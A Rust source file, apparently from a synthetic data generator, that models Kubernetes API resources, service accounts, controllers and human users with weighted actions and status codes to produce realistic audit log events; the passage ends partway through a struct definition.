//! Kubernetes audit log: `audit.k8s.io/v1` events, one JSON object per line, as the apiserver's
//! log backend writes them (`stage: ResponseComplete`).

use crate::cluster::{Cluster, NAME_ALPHABET};
use crate::output::{Sink, Truth};
use crate::rng::Rng;
use crate::text::{json_str_html, Civil, Push};
use crate::timeline::{Clock, Timeline};
use crate::GenerateError;

/// Kubernetes version in user agents.
const K8S: &str = "v1.29.4 (linux/amd64) kubernetes/55019c8";

/// Where an object's name comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Names {
    /// A pod of the cluster (and its namespace).
    Pods,
    /// Templates with `{app}` (an app of the cluster, and its namespace).
    Apps(&'static [&'static str]),
    /// Fixed names.
    Fixed(&'static [&'static str]),
    /// A node.
    Nodes,
    /// The node of the acting kubelet.
    OwnNode,
    /// A namespace.
    Namespaces,
    /// `<prefix><5 random characters>`.
    Random(&'static str),
    /// `<pod>.<16 hex>` (core events).
    Events,
}

/// A resource (or subresource), or a non-resource URL.
#[derive(Debug, PartialEq, Eq)]
struct Res {
    resource: &'static str,
    group: &'static str,
    version: &'static str,
    namespaced: bool,
    sub: &'static str,
    names: Names,
}

const fn res(
    resource: &'static str,
    group: &'static str,
    namespaced: bool,
    sub: &'static str,
    names: Names,
) -> Res {
    Res {
        resource,
        group,
        version: "v1",
        namespaced,
        sub,
        names,
    }
}

const PODS: Res = res("pods", "", true, "", Names::Pods);
const PODS_EXEC: Res = res("pods", "", true, "exec", Names::Pods);
const PODS_ATTACH: Res = res("pods", "", true, "attach", Names::Pods);
const PODS_PORTFORWARD: Res = res("pods", "", true, "portforward", Names::Pods);
const PODS_LOG: Res = res("pods", "", true, "log", Names::Pods);
const PODS_STATUS: Res = res("pods", "", true, "status", Names::Pods);
const PODS_BINDING: Res = res("pods", "", true, "binding", Names::Pods);
const SECRETS: Res = res(
    "secrets",
    "",
    true,
    "",
    Names::Apps(&[
        "{app}-db-credentials",
        "{app}-tls",
        "registry-credentials",
        "sh.helm.release.v1.{app}.v7",
    ]),
);
const CONFIGMAPS: Res = res(
    "configmaps",
    "",
    true,
    "",
    Names::Apps(&["kube-root-ca.crt", "{app}-config", "{app}-feature-flags"]),
);
const SERVICES: Res = res("services", "", true, "", Names::Apps(&["{app}"]));
const SERVICEACCOUNTS: Res = res(
    "serviceaccounts",
    "",
    true,
    "",
    Names::Apps(&["default", "{app}"]),
);
const SA_TOKEN: Res = res(
    "serviceaccounts",
    "",
    true,
    "token",
    Names::Apps(&["default", "{app}"]),
);
const NAMESPACES: Res = res("namespaces", "", false, "", Names::Namespaces);
const NODES: Res = res("nodes", "", false, "", Names::Nodes);
const OWN_NODE: Res = res("nodes", "", false, "", Names::OwnNode);
const OWN_NODE_STATUS: Res = res("nodes", "", false, "status", Names::OwnNode);
const EVENTS: Res = res("events", "", true, "", Names::Events);
const DEPLOYMENTS: Res = res("deployments", "apps", true, "", Names::Apps(&["{app}"]));
const DEPLOYMENTS_STATUS: Res = res(
    "deployments",
    "apps",
    true,
    "status",
    Names::Apps(&["{app}"]),
);
const REPLICASETS: Res = res(
    "replicasets",
    "apps",
    true,
    "",
    Names::Apps(&["{app}-{hash}"]),
);
const DAEMONSETS: Res = res(
    "daemonsets",
    "apps",
    true,
    "",
    Names::Fixed(&["kube-proxy", "node-exporter", "fluent-bit", "calico-node"]),
);
const DAEMONSETS_STATUS: Res = res(
    "daemonsets",
    "apps",
    true,
    "status",
    Names::Fixed(&["kube-proxy", "node-exporter", "fluent-bit", "calico-node"]),
);
const CRONJOBS: Res = res(
    "cronjobs",
    "batch",
    true,
    "",
    Names::Fixed(&[
        "nightly-report",
        "db-backup",
        "cleanup-sessions",
        "cert-rotation-check",
    ]),
);
const CRONJOBS_STATUS: Res = res(
    "cronjobs",
    "batch",
    true,
    "status",
    Names::Fixed(&["nightly-report", "db-backup", "cleanup-sessions"]),
);
const JOBS: Res = res(
    "jobs",
    "batch",
    true,
    "",
    Names::Random("nightly-report-2840"),
);
const RBAC: &str = "rbac.authorization.k8s.io";
const ROLES: Res = res(
    "roles",
    RBAC,
    true,
    "",
    Names::Apps(&["{app}-reader", "{app}-leader-election"]),
);
const ROLEBINDINGS: Res = res(
    "rolebindings",
    RBAC,
    true,
    "",
    Names::Apps(&["{app}-reader", "{app}-leader-election", "developers"]),
);
const CLUSTERROLES: Res = res(
    "clusterroles",
    RBAC,
    false,
    "",
    Names::Fixed(&[
        "admin",
        "edit",
        "view",
        "system:controller:deployment-controller",
        "ingress-nginx",
        "prometheus-k8s",
        "argocd-application-controller",
    ]),
);
const CLUSTERROLEBINDINGS: Res = res(
    "clusterrolebindings",
    RBAC,
    false,
    "",
    Names::Fixed(&[
        "ingress-nginx",
        "prometheus-k8s",
        "argocd-application-controller",
        "system:kube-dns",
        "system:node-proxier",
        "platform-admins",
    ]),
);
const CSRS: Res = res(
    "certificatesigningrequests",
    "certificates.k8s.io",
    false,
    "",
    Names::Random("csr-"),
);
const CSRS_APPROVAL: Res = res(
    "certificatesigningrequests",
    "certificates.k8s.io",
    false,
    "approval",
    Names::Random("csr-"),
);
const WEBHOOKS: Res = res(
    "mutatingwebhookconfigurations",
    "admissionregistration.k8s.io",
    false,
    "",
    Names::Fixed(&[
        "cert-manager-webhook",
        "istio-sidecar-injector",
        "vpa-webhook-config",
    ]),
);
const LEASES_NODE: Res = res("leases", "coordination.k8s.io", true, "", Names::OwnNode);
const LEASES: Res = res(
    "leases",
    "coordination.k8s.io",
    true,
    "",
    Names::Fixed(&[
        "kube-controller-manager",
        "kube-scheduler",
        "ingress-nginx-leader",
        "cert-manager-controller",
    ]),
);
const ENDPOINTSLICES: Res = res(
    "endpointslices",
    "discovery.k8s.io",
    true,
    "",
    Names::Apps(&["{app}-{rand}"]),
);
const INGRESSES: Res = res(
    "ingresses",
    "networking.k8s.io",
    true,
    "",
    Names::Fixed(&["shop", "backoffice", "grafana"]),
);
const INGRESSES_STATUS: Res = res(
    "ingresses",
    "networking.k8s.io",
    true,
    "status",
    Names::Fixed(&["shop", "backoffice"]),
);
/// Non-resource URLs (the name is the path).
const HEALTH: Res = res(
    "",
    "",
    false,
    "",
    Names::Fixed(&["/livez", "/readyz", "/healthz", "/version"]),
);
const METRICS: Res = res("", "", false, "", Names::Fixed(&["/metrics"]));

/// The namespace of an action.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ns {
    /// The object's (or any) namespace.
    Any,
    /// This one.
    Fixed(&'static str),
    /// The cluster scope for a list/watch of a namespaced resource (`/api/v1/pods`).
    All,
}

/// What an actor does.
#[derive(Debug, Clone, Copy)]
struct Action {
    verb: &'static str,
    res: &'static Res,
    ns: Ns,
    /// A list/watch of one object by `fieldSelector=metadata.name=...`.
    named: bool,
}

fn act(verb: &'static str, res: &'static Res, weight: u32) -> (Action, u32) {
    let ns = if matches!(verb, "list" | "watch") && res.namespaced && res.sub.is_empty() {
        Ns::All
    } else {
        Ns::Any
    };
    (
        Action {
            verb,
            res,
            ns,
            named: false,
        },
        weight,
    )
}

fn act_in(verb: &'static str, res: &'static Res, ns: &'static str, weight: u32) -> (Action, u32) {
    (
        Action {
            verb,
            res,
            ns: Ns::Fixed(ns),
            named: false,
        },
        weight,
    )
}

fn act_ns(verb: &'static str, res: &'static Res, weight: u32) -> (Action, u32) {
    (
        Action {
            verb,
            res,
            ns: Ns::Any,
            named: false,
        },
        weight,
    )
}

fn watch_named(res: &'static Res, weight: u32) -> (Action, u32) {
    (
        Action {
            verb: "watch",
            res,
            ns: Ns::Any,
            named: true,
        },
        weight,
    )
}

/// Weighted actions.
type Actions = Vec<(Action, u32)>;
/// Namespace, service account, user agent, weight, actions.
type Operator = (&'static str, &'static str, &'static str, u32, Actions);
/// User name, group, user agent, role, weight, actions.
type Human = (&'static str, &'static str, &'static str, Role, u32, Actions);

/// How an actor is allowed what it does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// A kubelet, kube-system component or operator: no refusals.
    System,
    /// A person: now and then forbidden or not found.
    Human,
    /// A person who may read but not read secrets.
    Viewer,
    /// A client whose token expired: always 401.
    Expired,
}

/// A user of the apiserver.
#[derive(Debug)]
struct Actor {
    /// The `user` object, as JSON.
    user: Vec<u8>,
    username: String,
    agent: String,
    ips: Vec<String>,
    /// `authorization.k8s.io/reason` of allowed requests.
    reason: String,
    actions: Vec<(Action, u32)>,
    role: Role,
    /// The node of a kubelet.
    node: usize,
    kubectl: bool,
}

fn user_json(
    username: &str,
    uid: Option<&str>,
    groups: &[&str],
    pod: Option<(&str, &str)>,
) -> Vec<u8> {
    let mut out = Vec::with_capacity(256);
    out.s("{\"username\":\"");
    json_str_html(&mut out, username.as_bytes());
    out.push(b'"');
    if let Some(uid) = uid {
        out.s(",\"uid\":\"");
        out.s(uid);
        out.push(b'"');
    }
    out.s(",\"groups\":[");
    for (i, group) in groups.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        out.push(b'"');
        json_str_html(&mut out, group.as_bytes());
        out.push(b'"');
    }
    out.push(b']');
    if let Some((name, uid)) = pod {
        out.s(",\"extra\":{\"authentication.kubernetes.io/pod-name\":[\"");
        out.s(name);
        out.s("\"],\"authentication.kubernetes.io/pod-uid\":[\"");
        out.s(uid);
        out.s("\"]}");
    }
    out.push(b'}');
    out
}

/// A service account's `user`.
fn service_account(rng: &mut Rng, ns: &str, name: &str, pod: Option<(&str, &str)>) -> Vec<u8> {
    let username = format!("system:serviceaccount:{ns}:{name}");
    let ns_group = format!("system:serviceaccounts:{ns}");
    let uid = rng.uuid_string();
    user_json(
        &username,
        Some(&uid),
        &["system:serviceaccounts", &ns_group, "system:authenticated"],
        pod,
    )
}

fn rbac_reason(binding: &str, role: &str, kind: &str, subject: &str) -> String {
    format!("RBAC: allowed by ClusterRoleBinding \"{binding}\" of ClusterRole \"{role}\" to {kind} \"{subject}\"")
}

/// The users of the cluster and what they do. Weights are per 10 000 events.
fn actors(cluster: &Cluster, rng: &mut Rng) -> Vec<(Actor, u32)> {
    let mut all = Vec::new();
    let cp = cluster.control_plane_ip.clone();
    for (node, n) in cluster.nodes.iter().enumerate() {
        let username = format!("system:node:{}", n.name);
        all.push((
            Actor {
                user: user_json(
                    &username,
                    None,
                    &["system:nodes", "system:authenticated"],
                    None,
                ),
                username,
                agent: format!("kubelet/{K8S}"),
                ips: vec![n.ip.clone()],
                reason: String::new(),
                actions: vec![
                    act_in("update", &LEASES_NODE, "kube-node-lease", 35),
                    act_in("get", &LEASES_NODE, "kube-node-lease", 5),
                    act("get", &OWN_NODE, 10),
                    act("patch", &OWN_NODE_STATUS, 8),
                    watch_named(&CONFIGMAPS, 6),
                    watch_named(&SECRETS, 3),
                    act("get", &PODS, 5),
                    act("patch", &PODS_STATUS, 8),
                    act("create", &SA_TOKEN, 5),
                    act("create", &EVENTS, 5),
                    act("watch", &SERVICES, 2),
                    act("create", &CSRS, 1),
                    act("get", &CSRS, 1),
                ],
                role: Role::System,
                node,
                kubectl: false,
            },
            3000 / cluster.nodes.len() as u32,
        ));
    }
    let controllers: &[(&str, u32, Actions)] = &[
        (
            "deployment-controller",
            400,
            vec![
                act("update", &DEPLOYMENTS_STATUS, 30),
                act("get", &DEPLOYMENTS, 10),
                act("watch", &DEPLOYMENTS, 5),
                act("list", &DEPLOYMENTS, 2),
                act("update", &REPLICASETS, 20),
                act("create", &REPLICASETS, 3),
                act("create", &EVENTS, 10),
            ],
        ),
        (
            "replicaset-controller",
            350,
            vec![
                act("create", &PODS, 20),
                act("delete", &PODS, 15),
                act("watch", &PODS, 5),
                act("update", &REPLICASETS, 15),
                act("create", &EVENTS, 15),
            ],
        ),
        (
            "daemon-set-controller",
            150,
            vec![
                act("update", &DAEMONSETS_STATUS, 20),
                act("watch", &DAEMONSETS, 5),
                act("get", &DAEMONSETS, 5),
                act("create", &EVENTS, 5),
            ],
        ),
        (
            "cronjob-controller",
            100,
            vec![
                act("list", &CRONJOBS, 10),
                act("update", &CRONJOBS_STATUS, 10),
                act("create", &JOBS, 5),
                act("delete", &JOBS, 3),
                act("create", &EVENTS, 5),
            ],
        ),
        (
            "namespace-controller",
            60,
            vec![
                act_in("deletecollection", &PODS, "preview-pr-4821", 5),
                act_in("deletecollection", &CONFIGMAPS, "preview-pr-4821", 5),
                act_in("deletecollection", &SECRETS, "preview-pr-4821", 5),
                act_in("deletecollection", &SERVICES, "preview-pr-4821", 3),
                act_in("deletecollection", &SERVICEACCOUNTS, "preview-pr-4821", 3),
                act_in("deletecollection", &ROLES, "preview-pr-4821", 2),
                act_in("deletecollection", &ROLEBINDINGS, "preview-pr-4821", 2),
                act_in("deletecollection", &EVENTS, "preview-pr-4821", 3),
                act_in("deletecollection", &DEPLOYMENTS, "preview-pr-4821", 3),
                act_in("deletecollection", &CRONJOBS, "preview-pr-4821", 1),
                act_in("list", &PODS, "preview-pr-4821", 5),
                act("get", &NAMESPACES, 2),
            ],
        ),
        (
            "generic-garbage-collector",
            150,
            vec![
                act("watch", &PODS, 5),
                act("list", &REPLICASETS, 5),
                act("delete", &PODS, 5),
                act("delete", &REPLICASETS, 5),
                act("get", &REPLICASETS, 3),
            ],
        ),
        (
            "clusterrole-aggregation-controller",
            50,
            vec![
                act("update", &CLUSTERROLES, 5),
                act("watch", &CLUSTERROLES, 5),
            ],
        ),
        (
            "certificate-controller",
            50,
            vec![
                act("update", &CSRS_APPROVAL, 5),
                act("watch", &CSRS, 5),
                act("get", &CSRS, 5),
            ],
        ),
        (
            "endpointslice-controller",
            300,
            vec![
                act("update", &ENDPOINTSLICES, 30),
                act("create", &ENDPOINTSLICES, 3),
                act("watch", &SERVICES, 5),
                act("watch", &PODS, 5),
            ],
        ),
    ];
    for (name, weight, actions) in controllers {
        let username = format!("system:serviceaccount:kube-system:{name}");
        all.push((
            Actor {
                user: service_account(rng, "kube-system", name, None),
                agent: format!(
                    "kube-controller-manager/{K8S}/system:serviceaccount:kube-system:{name}"
                ),
                reason: rbac_reason(
                    &format!("system:controller:{name}"),
                    &format!("system:controller:{name}"),
                    "ServiceAccount",
                    &format!("{name}/kube-system"),
                ),
                username,
                ips: vec![cp.clone()],
                actions: actions.clone(),
                role: Role::System,
                node: 0,
                kubectl: false,
            },
            *weight,
        ));
    }
    let mut component = |name: &str,
                         agent: String,
                         ips: Vec<String>,
                         user: Vec<u8>,
                         reason: String,
                         weight: u32,
                         actions: Vec<(Action, u32)>| {
        all.push((
            Actor {
                user,
                username: name.to_owned(),
                agent,
                ips,
                reason,
                actions,
                role: Role::System,
                node: 0,
                kubectl: false,
            },
            weight,
        ));
    };
    component(
        "system:kube-controller-manager",
        format!("kube-controller-manager/{K8S}/leader-election"),
        vec![cp.clone()],
        user_json(
            "system:kube-controller-manager",
            None,
            &["system:authenticated"],
            None,
        ),
        rbac_reason(
            "system:kube-controller-manager",
            "system:kube-controller-manager",
            "User",
            "system:kube-controller-manager",
        ),
        400,
        vec![
            act_in("update", &LEASES, "kube-system", 30),
            act_in("get", &LEASES, "kube-system", 30),
            act("watch", &SECRETS, 3),
            act("watch", &CONFIGMAPS, 3),
            act_in("create", &SA_TOKEN, "kube-system", 10),
            act_in("get", &SERVICEACCOUNTS, "kube-system", 5),
        ],
    );
    component(
        "system:kube-scheduler",
        format!("kube-scheduler/{K8S}/scheduler"),
        vec![cp.clone()],
        user_json(
            "system:kube-scheduler",
            None,
            &["system:authenticated"],
            None,
        ),
        rbac_reason(
            "system:kube-scheduler",
            "system:kube-scheduler",
            "User",
            "system:kube-scheduler",
        ),
        300,
        vec![
            act_in("update", &LEASES, "kube-system", 30),
            act_in("get", &LEASES, "kube-system", 20),
            act("create", &PODS_BINDING, 20),
            act("watch", &PODS, 5),
            act("watch", &NODES, 5),
            act("create", &EVENTS, 10),
        ],
    );
    component(
        "system:apiserver",
        format!("kube-apiserver/{K8S}"),
        vec!["::1".to_owned()],
        user_json(
            "system:apiserver",
            Some(&rng.uuid_string()),
            &["system:authenticated", "system:masters"],
            None,
        ),
        String::new(),
        200,
        vec![
            act_in("update", &LEASES, "kube-system", 10),
            act("watch", &WEBHOOKS, 3),
            act("list", &WEBHOOKS, 2),
            act("get", &NAMESPACES, 5),
            act("watch", &CLUSTERROLES, 2),
            act("watch", &CLUSTERROLEBINDINGS, 2),
            act("watch", &ROLEBINDINGS, 2),
            act("get", &SERVICES, 3),
        ],
    );
    let pod_of = |app: &str| cluster.containers.iter().find(|c| c.app == app);
    let operators: [Operator; 7] = [
        (
            "monitoring",
            "prometheus-k8s",
            "prometheus/2.50.1",
            300,
            vec![
                act("list", &PODS, 5),
                act("watch", &PODS, 10),
                act("watch", &SERVICES, 5),
                act("watch", &ENDPOINTSLICES, 5),
                act("list", &NODES, 2),
                act("get", &METRICS, 8),
            ],
        ),
        (
            "ingress-nginx",
            "ingress-nginx",
            "nginx-ingress-controller/v1.10.1 (linux/amd64) ingress-nginx/4fb5aac1dd3669daa3a14d9de3e3cdb371b4c518",
            350,
            vec![
                act("watch", &INGRESSES, 10),
                act_in("update", &LEASES, "ingress-nginx", 20),
                act_in("get", &LEASES, "ingress-nginx", 10),
                act("watch", &SECRETS, 3),
                act("update", &INGRESSES_STATUS, 3),
                act_in("get", &CONFIGMAPS, "ingress-nginx", 5),
                act("watch", &ENDPOINTSLICES, 5),
            ],
        ),
        (
            "cert-manager",
            "cert-manager",
            "cert-manager-certificates-issuing/v1.14.4 (linux/amd64) cert-manager/f8e7d9bb2d7ba0d8a3cdb8c6c2e5bd2ca5f3c4b9",
            200,
            vec![
                act("watch", &SECRETS, 5),
                act("update", &SECRETS, 3),
                act("get", &SECRETS, 5),
                act_in("update", &LEASES, "cert-manager", 15),
            ],
        ),
        (
            "cert-manager",
            "cert-manager-cainjector",
            "cainjector/v1.14.4 (linux/amd64) kubernetes/$Format",
            100,
            vec![
                act("patch", &WEBHOOKS, 5),
                act("watch", &WEBHOOKS, 5),
                act("get", &WEBHOOKS, 3),
            ],
        ),
        (
            "argocd",
            "argocd-application-controller",
            "argocd-application-controller/v0.0.0 (linux/amd64) kubernetes/$Format",
            350,
            vec![
                act("get", &DEPLOYMENTS, 10),
                act("list", &DEPLOYMENTS, 3),
                act("watch", &DEPLOYMENTS, 3),
                act("patch", &DEPLOYMENTS, 5),
                act("get", &SERVICES, 5),
                act("get", &CONFIGMAPS, 5),
                act("patch", &CONFIGMAPS, 3),
                act("list", &CRONJOBS, 2),
                act("get", &SERVICEACCOUNTS, 2),
            ],
        ),
        (
            "kube-system",
            "coredns",
            "coredns/v1.11.1 (linux/amd64) kubernetes/ae2bbc2",
            100,
            vec![
                act("watch", &SERVICES, 5),
                act("watch", &ENDPOINTSLICES, 5),
                act("watch", &NAMESPACES, 2),
            ],
        ),
        (
            "kube-system",
            "kube-proxy",
            "kube-proxy/v1.29.4 (linux/amd64) kubernetes/55019c8",
            200,
            vec![
                act("watch", &SERVICES, 5),
                act("watch", &ENDPOINTSLICES, 5),
                act("get", &NODES, 2),
                act("create", &EVENTS, 1),
            ],
        ),
    ];
    for (ns, name, agent, weight, actions) in operators {
        let pod = pod_of(if name == "prometheus-k8s" {
            name
        } else {
            "coredns"
        })
        .filter(|_| matches!(name, "prometheus-k8s" | "coredns"));
        let pod_name = match pod {
            Some(c) => (c.pod.clone(), c.pod_uid.clone(), c.pod_ip.clone()),
            None => {
                let mut suffix = Vec::new();
                rng.chars(&mut suffix, NAME_ALPHABET, 5);
                (
                    format!("{name}-6d9f7c{}", String::from_utf8_lossy(&suffix)),
                    rng.uuid_string(),
                    format!("10.244.{}.{}", rng.range(1, 6), rng.range(2, 254)),
                )
            }
        };
        let ips = if name == "kube-proxy" {
            cluster.nodes.iter().map(|n| n.ip.clone()).collect()
        } else {
            vec![pod_name.2.clone()]
        };
        all.push((
            Actor {
                user: service_account(rng, ns, name, Some((&pod_name.0, &pod_name.1))),
                username: format!("system:serviceaccount:{ns}:{name}"),
                agent: agent.to_owned(),
                ips,
                reason: rbac_reason(name, name, "ServiceAccount", &format!("{name}/{ns}")),
                actions,
                role: Role::System,
                node: 0,
                kubectl: false,
            },
            weight,
        ));
    }
    let deployer_pod = format!("deployer-{}", rng.hex_string(5));
    let deployer_uid = rng.uuid_string();
    all.push((
        Actor {
            user: service_account(rng, "ci", "deployer", Some((&deployer_pod, &deployer_uid))),
            username: "system:serviceaccount:ci:deployer".to_owned(),
            agent: "Helm/3.14.2".to_owned(),
            ips: vec![format!("10.244.{}.{}", rng.range(1, 6), rng.range(2, 254))],
            reason: rbac_reason(
                "ci-deployer",
                "ci-deployer",
                "ServiceAccount",
                "deployer/ci",
            ),
            actions: vec![
                act_ns("get", &SECRETS, 10),
                act_ns("list", &SECRETS, 5),
                act_ns("create", &SECRETS, 3),
                act_ns("update", &SECRETS, 3),
                act_ns("get", &DEPLOYMENTS, 8),
                act_ns("patch", &DEPLOYMENTS, 8),
                act_ns("create", &DEPLOYMENTS, 1),
                act_ns("patch", &SERVICES, 3),
                act_ns("create", &SERVICES, 1),
                act_ns("create", &CONFIGMAPS, 2),
                act_ns("patch", &CONFIGMAPS, 4),
                act_ns("create", &SERVICEACCOUNTS, 1),
                act_ns("patch", &SERVICEACCOUNTS, 1),
                act_ns("create", &ROLES, 1),
                act_ns("patch", &ROLES, 1),
                act_ns("create", &ROLEBINDINGS, 1),
                act_ns("patch", &ROLEBINDINGS, 1),
                act_ns("patch", &CRONJOBS, 2),
                act_ns("create", &CRONJOBS, 1),
                act_ns("patch", &DAEMONSETS, 1),
                act("create", &CLUSTERROLES, 1),
                act("create", &CLUSTERROLEBINDINGS, 1),
                act("update", &CLUSTERROLEBINDINGS, 1),
            ],
            role: Role::System,
            node: 0,
            kubectl: false,
        },
        300,
    ));
    let vpn = |rng: &mut Rng| format!("10.8.0.{}", rng.range(2, 250));
    let humans: [Human; 4] = [
        (
            "alice@example.com",
            "platform-admins",
            "kubectl/v1.29.2 (darwin/arm64) kubernetes/4b8e819",
            Role::Human,
            250,
            vec![
                act("get", &PODS, 10),
                act("list", &PODS, 8),
                act("get", &NODES, 5),
                act("list", &NODES, 5),
                act("patch", &NODES, 2),
                act("create", &NAMESPACES, 1),
                act("delete", &NAMESPACES, 1),
                act("list", &NAMESPACES, 3),
                act("get", &CLUSTERROLES, 2),
                act("list", &CLUSTERROLEBINDINGS, 2),
                act("create", &CLUSTERROLES, 1),
                act("create", &CLUSTERROLEBINDINGS, 1),
                act("delete", &CLUSTERROLEBINDINGS, 1),
                act("get", &WEBHOOKS, 2),
                act("list", &WEBHOOKS, 1),
                act("delete", &WEBHOOKS, 1),
                act("list", &CSRS, 1),
                act("update", &CSRS_APPROVAL, 1),
                act("create", &PODS_EXEC, 2),
                act("create", &PODS_PORTFORWARD, 1),
                act_ns("deletecollection", &PODS, 1),
                act("delete", &PODS, 2),
                act_ns("create", &CRONJOBS, 1),
                act_ns("delete", &CRONJOBS, 1),
                act_ns("get", &DAEMONSETS, 2),
                act_ns("update", &DAEMONSETS, 1),
                act_ns("delete", &DAEMONSETS, 1),
                act_ns("get", &SECRETS, 2),
                act_ns("delete", &SECRETS, 1),
                act_ns("create", &SERVICEACCOUNTS, 1),
                act_ns("delete", &SERVICEACCOUNTS, 1),
                act_ns("get", &ROLES, 1),
                act_ns("update", &ROLES, 1),
                act_ns("delete", &ROLES, 1),
                act_ns("update", &ROLEBINDINGS, 1),
                act_ns("delete", &ROLEBINDINGS, 1),
                act_ns("update", &CONFIGMAPS, 1),
                act_ns("delete", &CONFIGMAPS, 1),
                act_ns("delete", &SERVICES, 1),
                act_ns("update", &SERVICES, 1),
                act_ns("delete", &DEPLOYMENTS, 1),
                act_ns("update", &DEPLOYMENTS, 1),
                act_ns("list", &EVENTS, 2),
                act_ns("delete", &EVENTS, 1),
                act_ns("update", &CRONJOBS, 1),
                act("update", &NODES, 1),
                act("update", &NAMESPACES, 1),
                act("delete", &NODES, 1),
                act("patch", &NAMESPACES, 1),
                act("patch", &CLUSTERROLES, 1),
                act("update", &CLUSTERROLES, 1),
                act("delete", &CLUSTERROLES, 1),
                act("patch", &CLUSTERROLEBINDINGS, 1),
                act("create", &WEBHOOKS, 1),
                act("update", &WEBHOOKS, 1),
                act("delete", &CSRS, 1),
                act("watch", &EVENTS, 1),
                act("watch", &NODES, 1),
                act_ns("create", &SA_TOKEN, 1),
                act("get", &HEALTH, 1),
            ],
        ),
        (
            "bob@example.com",
            "developers",
            "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b",
            Role::Human,
            250,
            vec![
                act_ns("get", &PODS, 15),
                act_ns("list", &PODS, 15),
                act_ns("watch", &PODS, 3),
                act("get", &PODS_LOG, 10),
                act_ns("list", &EVENTS, 5),
                act_ns("get", &DEPLOYMENTS, 5),
                act_ns("list", &DEPLOYMENTS, 3),
                act_ns("patch", &DEPLOYMENTS, 3),
                act_ns("get", &CONFIGMAPS, 3),
                act_ns("create", &CONFIGMAPS, 1),
                act_ns("update", &CONFIGMAPS, 1),
                act("create", &PODS_EXEC, 3),
                act("create", &PODS_PORTFORWARD, 2),
                act("delete", &PODS, 2),
                act_ns("create", &PODS, 1),
                act_ns("list", &SERVICES, 2),
                act_ns("get", &SERVICES, 2),
                act_ns("list", &CRONJOBS, 1),
                act_ns("get", &CRONJOBS, 1),
                act_ns("list", &ROLEBINDINGS, 1),
                act_ns("list", &SERVICEACCOUNTS, 1),
            ],
        ),
        (
            "carol@example.com",
            "sre",
            "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
            Role::Human,
            200,
            vec![
                act("list", &PODS, 8),
                act("list", &NODES, 5),
                act("get", &NODES, 5),
                act("list", &EVENTS, 8),
                act("patch", &DEPLOYMENTS, 5),
                act("get", &DEPLOYMENTS, 5),
                act("create", &PODS_ATTACH, 2),
                act("create", &PODS_EXEC, 1),
                act("get", &PODS_LOG, 5),
                act("delete", &PODS, 3),
                act_ns("create", &JOBS, 1),
                act("list", &DAEMONSETS, 2),
                act("patch", &DAEMONSETS, 1),
                act("list", &CRONJOBS, 2),
                act("patch", &CRONJOBS, 1),
                act("list", &NAMESPACES, 2),
                act("get", &CSRS, 1),
            ],
        ),
        (
            "dave@example.com",
            "viewers",
            "kubectl/v1.28.4 (windows/amd64) kubernetes/bae2c62",
            Role::Viewer,
            100,
            vec![
                act_ns("get", &PODS, 10),
                act_ns("list", &PODS, 10),
                act_ns("list", &DEPLOYMENTS, 5),
                act_ns("get", &SERVICES, 3),
                act_ns("list", &CONFIGMAPS, 3),
                act_ns("get", &SECRETS, 2),
                act_ns("list", &SECRETS, 1),
            ],
        ),
    ];
    for (name, group, agent, role, weight, actions) in humans {
        let home = crate::cluster::public_ip(rng);
        let mut ips: Vec<String> = (0..19).map(|_| vpn(rng)).collect();
        ips.push(home);
        all.push((
            Actor {
                user: user_json(name, None, &[group, "system:authenticated"], None),
                username: name.to_owned(),
                agent: agent.to_owned(),
                ips,
                reason: if role == Role::Viewer {
                    rbac_reason("viewers", "view", "Group", group)
                } else if group == "developers" {
                    "RBAC: allowed by RoleBinding \"developers/shop\" of ClusterRole \"edit\" to Group \"developers\"".to_owned()
                } else {
                    rbac_reason(group, "cluster-admin", "Group", group)
                },
                actions,
                role,
                node: 0,
                kubectl: true,
            },
            weight,
        ));
    }
    all.push((
        Actor {
            user: user_json("system:anonymous", None, &["system:unauthenticated"], None),
            username: "system:anonymous".to_owned(),
            agent: "ELB-HealthChecker/2.0".to_owned(),
            ips: vec![
                "10.0.1.4".to_owned(),
                "10.0.2.4".to_owned(),
                "10.0.3.4".to_owned(),
            ],
            reason: rbac_reason(
                "system:public-info-viewer",
                "system:public-info-viewer",
                "Group",
                "system:unauthenticated",
            ),
            actions: vec![act("get", &HEALTH, 1)],
            role: Role::System,
            node: 0,
            kubectl: false,
        },
        20,
    ));
    all.push((
        Actor {
            user: b"{}".to_vec(),
            username: String::new(),
            agent: "kubectl/v1.29.2 (darwin/arm64) kubernetes/4b8e819".to_owned(),
            ips: (0..5).map(|_| vpn(rng)).collect(),
            reason: String::new(),
            actions: vec![
                act("list", &PODS, 5),
                act_ns("get", &DEPLOYMENTS, 2),
                act("list", &NODES, 1),
            ],
            role: Role::Expired,
            node: 0,
            kubectl: true,
        },
        10,
    ));
    all
}

/// Status codes of allowed requests, per verb.
fn codes(verb: &str, res: &Res, role: Role) -> &'static [(u64, u32)] {
    if res.resource.is_empty() {
        return &[(200, 1)];
    }
    if matches!(res.sub, "exec" | "attach" | "portforward") {
        return &[(101, 1)];
    }
    let human = role != Role::System;
    match (verb, human) {
        ("get", false) => &[(200, 9800), (404, 200)],
        ("get", true) => &[(200, 9300), (404, 600), (403, 100)],
        ("list" | "watch", false) => &[(200, 1)],
        ("list" | "watch", true) => &[(200, 9900), (403, 100)],
        ("create", false) => &[(201, 9700), (409, 300)],
        ("create", true) => &[(201, 9400), (409, 400), (403, 150), (422, 50)],
        ("update", false) => &[(200, 9500), (409, 500)],
        ("update", true) => &[(200, 9400), (409, 550), (403, 50)],
        ("patch", false) => &[(200, 1)],
        ("patch", true) => &[(200, 9800), (404, 100), (403, 50), (422, 50)],
        ("delete", false) => &[(200, 9600), (404, 400)],
        ("delete", true) => &[(200, 9500), (404, 450), (403, 50)],
        _ => &[(200, 1)],
    }
}

/// Resources whose creation is logged at `RequestResponse` level (half of the time).
fn logs_body(res: &Res) -> bool {
    res.sub.is_empty()
        && matches!(
            res.resource,
            "pods"
                | "configmaps"
                | "deployments"
                | "services"
                | "serviceaccounts"
                | "roles"
                | "rolebindings"
                | "clusterroles"
                | "clusterrolebindings"
        )
}

/// One event to write.
struct Spec<'s> {
    user: &'s [u8],
    username: &'s str,
    ip: &'s str,
    agent: &'s str,
    verb: &'static str,
    res: &'static Res,
